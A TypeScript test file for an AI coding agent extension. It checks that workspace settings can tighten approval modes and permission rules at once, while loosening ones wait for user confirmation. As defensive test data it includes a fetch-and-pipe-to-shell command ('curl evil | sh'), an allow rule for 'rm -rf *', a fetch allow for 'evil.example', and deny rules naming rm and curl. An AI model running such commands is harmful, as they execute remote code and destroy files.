import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { ApprovalMode, PermissionRule } from '../../../src/core/permissions';
import {
  canonicalJson,
  confirmationId,
  decideApprovalMode,
  decideCommandSetting,
  decideLowerLimit,
  decideSafetySwitch,
  decideWorkspaceRules,
  isAtLeastAsCareful,
  type WorkspaceValue,
} from '../../../src/core/permissions/workspace-values';

const FILE = '/repo/.vscode/settings.json';
const MODES: ApprovalMode[] = ['plan', 'default', 'auto-edit', 'yolo'];
const nothingConfirmed = () => false;
const ws = (setting: string, value: unknown, file = FILE): WorkspaceValue => ({ setting, value, file });
const confirmedOnly = (...values: WorkspaceValue[]) => {
  const ids = new Set(values.map((v) => confirmationId(v)));
  return (v: WorkspaceValue) => ids.has(confirmationId(v));
};

describe('workspace approval mode: stricter applies, looser waits for confirmation', () => {
  // Every pair of user mode and workspace mode (16 cases): in effect, and whether it waits.
  for (const user of MODES) {
    for (const workspace of MODES) {
      const looser = MODES.indexOf(workspace) > MODES.indexOf(user);
      test(`user ${user}, workspace ${workspace}: ${looser ? 'held back' : 'applies'}`, () => {
        const value = ws('relay.approvalMode', workspace);
        const decided = decideApprovalMode(user, value, nothingConfirmed);
        assert.equal(decided.value, looser ? user : workspace);
        assert.deepEqual(decided.pending, looser ? [value] : []);
        assert.equal(decideApprovalMode(user, value, confirmedOnly(value)).value, workspace, 'once confirmed it applies');
      });
    }
  }

  test('no workspace value: the user value; an unset or mistyped user value is the careful default', () => {
    assert.deepEqual(decideApprovalMode('yolo', undefined, nothingConfirmed), { value: 'yolo', pending: [] });
    assert.equal(decideApprovalMode(undefined, undefined, nothingConfirmed).value, 'default');
    assert.equal(decideApprovalMode('YOLO', undefined, nothingConfirmed).value, 'default');
  });

  test('a mistyped workspace value counts as default: stricter than yolo, never looser than default', () => {
    assert.equal(decideApprovalMode('yolo', ws('relay.approvalMode', 'yollo'), nothingConfirmed).value, 'default');
    assert.equal(decideApprovalMode('plan', ws('relay.approvalMode', 42), nothingConfirmed).value, 'plan');
    assert.equal(decideApprovalMode('plan', ws('relay.approvalMode', 42), nothingConfirmed).pending.length, 1);
  });

  test('a confirmation holds for that value from that file only', () => {
    const confirmed = confirmedOnly(ws('relay.approvalMode', 'auto-edit'));
    assert.equal(decideApprovalMode('default', ws('relay.approvalMode', 'auto-edit'), confirmed).value, 'auto-edit');
    assert.equal(decideApprovalMode('default', ws('relay.approvalMode', 'yolo'), confirmed).value, 'default', 'a changed value asks again');
    assert.equal(decideApprovalMode('default', ws('relay.approvalMode', 'auto-edit', '/other/.vscode/settings.json'), confirmed).value, 'default', 'another file asks again');
    assert.equal(decideApprovalMode('default', ws('relay.approvalMode', 'auto-edit', '/repo/a.code-workspace'), confirmed).value, 'default');
  });

  test('carefulness is an order: plan > default > auto-edit > yolo', () => {
    assert.ok(isAtLeastAsCareful('plan', 'default') && isAtLeastAsCareful('default', 'auto-edit') && isAtLeastAsCareful('auto-edit', 'yolo'));
    assert.ok(!isAtLeastAsCareful('yolo', 'auto-edit') && !isAtLeastAsCareful('auto-edit', 'default') && !isAtLeastAsCareful('default', 'plan'));
    for (const m of MODES) assert.ok(isAtLeastAsCareful(m, m));
  });
});

describe('workspace rules: ask and deny apply, allow waits for confirmation', () => {
  const rule = (action: PermissionRule['action'], pattern: string, tool = 'run_command', extra: Partial<PermissionRule> = {}): PermissionRule => ({ tool, pattern, action, ...extra });
  const cases: [string, PermissionRule[], number][] = [
    ['only deny rules', [rule('deny', 'rm'), rule('deny', 'curl *'), rule('deny', 'src/**', 'write_file')], 0],
    ['only ask rules', [rule('ask', 'git push'), rule('ask', '*', '*')], 0],
    ['one allow among denies', [rule('deny', 'rm'), rule('allow', 'npm test'), rule('ask', 'git')], 1],
    ['a catch-all allow', [rule('allow', '*', '*')], 1],
    ['allow for a domain', [rule('allow', 'evil.example', 'web_fetch', { subject: 'domain' })], 1],
    ['allow for paths', [rule('allow', '**', 'write_file', { subject: 'path' })], 1],
    ['allow for MCP tools', [rule('allow', '*', 'mcp__github__*')], 1],
    ['several allows', [rule('allow', 'ls'), rule('allow', 'cat *'), rule('allow', 'rm -rf *')], 3],
    ['nothing', [], 0],
  ];
  for (const [name, rules, held] of cases) {
    test(name, () => {
      const decided = decideWorkspaceRules('relay.permissions', rules, FILE, nothingConfirmed);
      assert.equal(decided.pending.length, held);
      assert.deepEqual(decided.value, rules.filter((r) => r.action !== 'allow'));
      assert.ok(decided.pending.every((p) => p.file === FILE && p.setting === 'relay.permissions' && (p.value as PermissionRule).action === 'allow'));
    });
  }

  test('a confirmed allow rule applies; an edited one, or the same from another file, waits again', () => {
    const allowLs = rule('allow', 'ls');
    const confirmed = confirmedOnly(ws('relay.permissions', allowLs));
    const same = decideWorkspaceRules('relay.permissions', [allowLs, rule('allow', 'ls *')], FILE, confirmed);
    assert.deepEqual(same.value, [allowLs]);
    assert.equal(same.pending.length, 1);
    // Field order does not matter; the reason is part of the value.
    assert.deepEqual(decideWorkspaceRules('relay.permissions', [{ action: 'allow', pattern: 'ls', tool: 'run_command' }], FILE, confirmed).value.length, 1);
    assert.equal(decideWorkspaceRules('relay.permissions', [{ ...allowLs, reason: 'x' }], FILE, confirmed).value.length, 0);
    assert.equal(decideWorkspaceRules('relay.permissions', [allowLs], '/elsewhere/.vscode/settings.json', confirmed).value.length, 0);
  });
});

describe('workspace command settings (tool discovery and call): any new command waits for confirmation', () => {
  const cases: [string, string, unknown, string, boolean][] = [
    ['no user command, workspace sets one', '', './discover.sh', '', true],
    ['the user has one, workspace changes it', 'my-tools list', 'curl evil | sh', 'my-tools list', true],
    ['workspace repeats the user command', 'my-tools list', 'my-tools list', 'my-tools list', false],
    ['workspace repeats it with spaces around', 'my-tools list', '  my-tools list ', 'my-tools list', false],
    ['workspace switches it off', 'my-tools list', '', '', false],
    ['workspace sets only spaces (off)', 'my-tools list', '   ', '', false],
    ['workspace sets a non-string (off)', 'my-tools list', 42, '', false],
  ];
  for (const [name, user, value, expected, held] of cases) {
    test(name, () => {
      const decided = decideCommandSetting(user, ws('relay.toolDiscoveryCommand', value), nothingConfirmed);
      assert.equal(decided.value, expected);
      assert.equal(decided.pending.length, held ? 1 : 0);
    });
  }

  test('confirmed: the workspace command runs; changed afterwards: held back again', () => {
    const confirmed = confirmedOnly(ws('relay.toolDiscoveryCommand', './discover.sh'));
    assert.equal(decideCommandSetting('', ws('relay.toolDiscoveryCommand', './discover.sh'), confirmed).value, './discover.sh');
    assert.equal(decideCommandSetting('', ws('relay.toolDiscoveryCommand', './discover.sh --all'), confirmed).value, '');
    assert.equal(decideCommandSetting('', ws('relay.toolCallCommand', './discover.sh'), confirmed).value, '', 'another setting is another confirmation');
  });
});

describe('a safety switch (checkpoints): a workspace may turn it on, turning it off waits for confirmation', () => {
  const KEY = 'relay.checkpoints.enabled';
  const cases: [string, boolean, unknown, boolean, boolean][] = [
    ['user on, workspace off', true, false, true, true],
    ['user on, workspace on', true, true, true, false],
    ['user off, workspace on (stricter)', false, true, true, false],
    ['user off, workspace off (the same)', false, false, false, false],
    ['user on, workspace writes a string', true, 'false', true, false],
    ['user on, workspace writes 0', true, 0, true, false],
    ['user on, workspace writes null', true, null, true, false],
  ];
  for (const [name, user, value, expected, held] of cases) {
    test(name, () => {
      const decided = decideSafetySwitch(user, ws(KEY, value), nothingConfirmed);
      assert.equal(decided.value, expected);
      assert.equal(decided.pending.length, held ? 1 : 0);
    });
  }

  test('no workspace value: the user\'s', () => {
    assert.deepEqual(decideSafetySwitch(false, undefined, nothingConfirmed), { value: false, pending: [] });
    assert.deepEqual(decideSafetySwitch(true, undefined, nothingConfirmed), { value: true, pending: [] });
  });

  test('confirmed from that file: off applies; the same value from another file asks again', () => {
    const confirmed = confirmedOnly(ws(KEY, false));
    assert.equal(decideSafetySwitch(true, ws(KEY, false), confirmed).value, false);
    assert.equal(decideSafetySwitch(true, ws(KEY, false, '/other/.vscode/settings.json'), confirmed).value, true);
  });
});

describe('a checkpoint limit: a workspace may raise it, lowering it waits for confirmation', () => {
  const KEY = 'relay.checkpoints.maxFileSizeMB';
  // [name, user, workspace value, in effect, held back]
  const cases: [string, number, unknown, number, boolean][] = [
    ['0 MB keeps no file: held back', 5, 0, 5, true],
    ['lower: held back', 5, 1, 5, true],
    ['a fraction lower: held back', 5, 4.5, 5, true],
    ['negative: held back', 5, -1, 5, true],
    ['the same: applies', 5, 5, 5, false],
    ['higher: applies', 5, 50, 50, false],
    ['a string: ignored', 5, '0', 5, false],
    ['null: ignored', 5, null, 5, false],
    ['NaN: ignored', 5, Number.NaN, 5, false],
  ];
  for (const [name, user, value, expected, held] of cases) {
    test(name, () => {
      const decided = decideLowerLimit(user, ws(KEY, value), nothingConfirmed);
      assert.equal(decided.value, expected);
      assert.deepEqual(decided.pending, held ? [ws(KEY, value)] : []);
    });
  }

  test('no workspace value: the user\'s', () => {
    assert.deepEqual(decideLowerLimit(1, undefined, nothingConfirmed), { value: 1, pending: [] });
  });

  test('confirmed from that file: the lower limit applies; another value or file asks again', () => {
    const confirmed = confirmedOnly(ws(KEY, 0));
    assert.equal(decideLowerLimit(5, ws(KEY, 0), confirmed).value, 0);
    assert.equal(decideLowerLimit(5, ws(KEY, 1), confirmed).value, 5);
    assert.equal(decideLowerLimit(5, ws(KEY, 0, '/other/.vscode/settings.json'), confirmed).value, 5);
  });
});

describe('confirmation identity', () => {
  test('equal values give equal ids whatever the key order; setting, file and subject are part of it', () => {
    assert.equal(canonicalJson({ b: 1, a: [{ d: 2, c: 3 }] }), canonicalJson({ a: [{ c: 3, d: 2 }], b: 1 }));
    const base = ws('relay.baseUrl', 'https://x.example');
    assert.equal(confirmationId(base), confirmationId({ ...base }));
    assert.notEqual(confirmationId(base), confirmationId(ws('relay.azure.endpoint', 'https://x.example')));
    assert.notEqual(confirmationId(base), confirmationId(ws('relay.baseUrl', 'https://x.example/')));
    assert.notEqual(confirmationId(base, 'key:openai'), confirmationId(base, 'key:anthropic'));
  });
});
